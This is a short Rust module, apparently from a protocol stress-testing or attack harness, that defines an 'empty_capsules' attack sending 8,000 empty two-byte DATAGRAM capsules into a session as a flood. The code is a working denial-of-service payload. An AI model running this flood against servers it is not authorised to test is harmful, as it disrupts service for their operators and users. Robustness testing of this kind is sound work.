//! Empty DATAGRAM capsules in a session, two bytes each.

use crate::attacker::{Attack, Attacker};
use crate::flood;
use crate::wire;

pub(super) const ATTACK: Attack = Attack::new("empty_capsules", "empty DATAGRAM capsules", run);

fn run(a: &mut Attacker) {
    let capsules = wire::data(&wire::frame(0x00, b"").repeat(8_000));
    flood::session(a, &capsules, 8_000);
}
